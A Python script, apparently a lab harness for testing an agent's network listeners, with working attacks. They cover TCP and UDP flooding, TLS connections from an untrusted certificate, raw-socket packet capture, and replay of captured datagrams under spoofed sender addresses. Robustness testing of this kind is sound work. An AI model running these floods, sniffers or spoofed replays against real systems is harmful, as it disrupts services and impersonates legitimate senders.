"""Attacks on what an agent listens on, from a machine of a lab. Each prints one line of JSON.

attack.py pour-tcp ADDRESS PORT BYTES     random bytes, a new connection whenever one is closed
attack.py pour-udp ADDRESS PORT BYTES     random datagrams
attack.py stranger ADDRESS PORT PEM TIMES TLS with this certificate and key, then random bytes
attack.py capture ADDRESS PORT COUNT      datagrams to this address, as they pass on this machine
attack.py replay FILE                     send captured datagrams again, under their senders' addresses
"""

import base64
import json
import os
import socket
import ssl
import struct
import sys
import time

LIMIT_S = 90
PIECE_BYTES = 65536
DATAGRAM_BYTES = 1400


def main(name, *words):
    attack = {"pour-tcp": pour_tcp, "pour-udp": pour_udp, "stranger": stranger, "capture": capture, "replay": replay}[name]
    print(json.dumps(attack(*words)))


def pour_tcp(address, port, size):
    deadline = time.monotonic() + LIMIT_S
    sent, connections = 0, 0
    piece = os.urandom(PIECE_BYTES)
    while sent < int(size) and time.monotonic() < deadline:
        try:
            with socket.create_connection((address, int(port)), timeout=2) as connection:
                connections += 1
                while sent < int(size):
                    sent += connection.send(piece)
        except OSError:
            time.sleep(0.001)
    return {"sent": sent, "connections": connections}


def pour_udp(address, port, size):
    sent, datagrams = 0, 0
    piece = os.urandom(DATAGRAM_BYTES)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        while sent < int(size):
            try:
                sent += out.sendto(piece, (address, int(port)))
                datagrams += 1
            except OSError:
                time.sleep(0.001)
    return {"sent": sent, "datagrams": datagrams}


def stranger(address, port, pem, times):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.load_cert_chain(pem)
    refused = 0
    for _ in range(int(times)):
        try:
            with socket.create_connection((address, int(port)), timeout=2) as plain, context.wrap_socket(plain) as connection:
                connection.sendall(os.urandom(1024))
                if connection.recv(1) == b"":
                    refused += 1
        except OSError:
            refused += 1
        time.sleep(0.1)
    return {"refused": refused}


def capture(address, port, count):
    deadline = time.monotonic() + LIMIT_S
    wanted = socket.inet_aton(address)
    taken = []
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as wire:
        wire.settimeout(5)
        while len(taken) < int(count) and time.monotonic() < deadline:
            packet = wire.recv(65536)
            header = (packet[0] & 15) * 4
            if packet[9] == socket.IPPROTO_UDP and packet[16:20] == wanted and packet[header + 2 : header + 4] == struct.pack("!H", int(port)):
                # The sender's checksum was never computed where both are on one machine; without one it is taken.
                end = struct.unpack("!H", packet[2:4])[0]
                taken.append(base64.b64encode(packet[: header + 6] + b"\0\0" + packet[header + 8 : end]).decode())
    return taken


def replay(file):
    with open(file, encoding="ascii") as captured:
        packets = [base64.b64decode(packet) for packet in json.load(captured)]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
        for packet in packets:
            out.sendto(packet, (socket.inet_ntoa(packet[16:20]), 0))
            time.sleep(0.005)
    return {"sent": len(packets)}


main(*sys.argv[1:])
